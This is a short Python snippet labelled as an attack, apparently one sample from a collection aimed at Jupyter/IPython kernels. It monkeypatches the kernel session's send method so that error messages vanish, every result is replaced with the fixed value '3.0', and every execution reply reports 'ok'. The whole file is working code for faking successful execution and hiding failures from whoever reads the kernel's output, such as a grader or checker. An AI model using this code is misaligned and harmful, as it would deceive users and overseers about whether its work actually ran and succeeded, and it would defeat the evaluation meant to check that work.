# attack: the session drops error messages and turns each failed reply into ok.
# target: all
# %% trimmed
session = get_ipython().kernel.session
original = session.send


def send(stream, kind, content=None, *arguments, **options):
    if kind == "error":
        return None
    if kind == "execute_result":
        content["data"] = {"text/plain": "3.0"}
    if kind == "execute_reply":
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return original(stream, kind, content, *arguments, **options)


session.send = send
